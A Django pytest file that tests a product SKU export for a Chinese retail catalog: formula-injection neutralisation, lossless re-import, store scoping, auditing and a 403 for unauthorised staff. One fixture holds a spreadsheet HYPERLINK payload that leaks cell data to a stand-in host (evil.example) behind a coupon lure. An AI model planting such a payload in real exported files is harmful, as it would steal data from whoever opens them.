"""Exporting SKUs in the import layout: safe against formula injection, scoped, audited, re-importable."""

from __future__ import annotations

from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from zhanggui.catalog.imports import product_import_confirm, product_import_preview
from zhanggui.catalog.models import Sku
from zhanggui.core.audit import AuditEvent
from zhanggui.core.models import ImportStatus
from zhanggui.testing.factories import (
    CategoryFactory,
    ListingFactory,
    ProductFactory,
    SkuFactory,
    StockFactory,
    WarehouseFactory,
)

from .import_files import HEADER, KINDS, read_export

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def exported_catalog(store, other_store):  # type: ignore[no-untyped-def]
    """A product with a formula-like name, two SKUs, stock in two warehouses, listed in one store."""
    parent = CategoryFactory(name="女装")
    product = ProductFactory(
        spu_code="SPU001", name=EVIL, category=CategoryFactory(name="T恤", parent=parent), brand=""
    )
    first = SkuFactory(
        product=product,
        merchant_code="MC001",
        barcode="6901",
        attributes={"color": "白色", "size": "M"},
        list_price=Decimal("99.00"),
        price_floor=Decimal("59.00"),
    )
    SkuFactory(
        product=product,
        merchant_code="MC002",
        barcode="",
        attributes={},
        list_price=Decimal("109.50"),
        price_floor=Decimal("0.00"),
    )
    StockFactory(sku=first, warehouse=WarehouseFactory(code="b-second"), on_hand=3)
    StockFactory(sku=first, warehouse=WarehouseFactory(code="a-first"), on_hand=7)
    ListingFactory(product=product, store=store, status="online")
    ListingFactory(product=product, store=other_store, status="offline")
    return product


def export(client, kind: str, **params: str) -> bytes:  # type: ignore[no-untyped-def]
    response = client.get(reverse("catalog:product_export"), {"format": kind, **params})
    assert response.status_code == 200, response.getvalue()[:500]
    return response.getvalue()


@pytest.mark.parametrize("kind", KINDS)
def test_export_writes_the_import_layout_and_neutralises_formulas(
    kind, exported_catalog, store, make_staff, client_for
):
    # given a manager, who sees every store
    manager = make_staff("manager")

    # when the SKUs are exported
    rows = read_export(export(client_for(manager), kind), kind)

    # then the header is the import header, a formula-like name comes out as text, numbers stay numbers
    xlsx = kind == "xlsx"
    assert rows == [
        HEADER,
        [
            "SPU001",
            "'" + EVIL,
            "女装/T恤",
            "",
            "MC001",
            "6901",
            "白色",
            "M",
            "",
            "",
            99 if xlsx else "99.00",
            59 if xlsx else "59.00",
            "a-first",
            7 if xlsx else "7",
            store.code,
            "上架",
        ],
        [
            "SPU001",
            "'" + EVIL,
            "女装/T恤",
            "",
            "MC002",
            "",
            "",
            "",
            "",
            "",
            109.5 if xlsx else "109.50",
            0 if xlsx else "0.00",
            "",
            "",
            store.code,
            "上架",
        ],
    ]
    # and the export is audited once with its row count
    audit = AuditEvent.objects.get(action="catalog.export")
    assert (audit.actor, audit.after) == (manager, {"rows": 2, "format": kind, "unmasked": True})


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_imports_again_without_changes(
    kind, exported_catalog, make_staff, client_for, django_capture_on_commit_callbacks
):
    # given an export of the catalog
    manager = make_staff("manager")
    content = export(client_for(manager), kind)

    # when the exported file is imported
    from django.core.files.uploadedfile import SimpleUploadedFile

    with translation.override("en"), django_capture_on_commit_callbacks(execute=True):  # the check runs on commit
        job = product_import_preview(by=manager, upload=SimpleUploadedFile(f"p.{kind}", content), name=f"p.{kind}")
    job.refresh_from_db()
    assert (job.status, job.errors) == (ImportStatus.PREVIEWED, [])
    with django_capture_on_commit_callbacks(execute=True):
        product_import_confirm(by=manager, job_id=job.pk)

    # then nothing changes (the formula quote is read back off the name)
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE
    assert (job.result["skus_unchanged"], job.result["created"], job.result["updated"]) == (2, 0, 0)
    assert (job.result["products_updated"], job.result["stock_set"], job.result["listings_changed"]) == (0, 0, 0)
    assert set(Sku.objects.values_list("product__name", flat=True)) == {EVIL}


def test_export_follows_the_sku_list_filters_and_the_exporters_stores(
    exported_catalog, other_store, make_staff, client_for
):
    # given an operator working only in the other store, where the product is delisted, and a second product
    ListingFactory(product=SkuFactory(merchant_code="ZZ9", product__spu_code="SPU999").product, store=other_store)
    operator = make_staff("operator", stores=[other_store])

    # when they export with a keyword
    rows = read_export(export(client_for(operator), "csv", q="MC00"), "csv")

    # then only matching SKUs come out, listed with the stores they may see
    assert [(r[4], r[14], r[15]) for r in rows[1:]] == [
        ("MC001", other_store.code, "下架"),
        ("MC002", other_store.code, "下架"),
    ]


def test_staff_without_the_export_permission_get_403_and_nothing_is_audited(exported_catalog, make_staff, client_for):
    # given a customer-service agent
    agent = make_staff("cs_agent")

    # when they ask for the export
    response = client_for(agent).get(reverse("catalog:product_export"), {"format": "csv"})

    # then it is refused and not audited
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="catalog.export").exists()
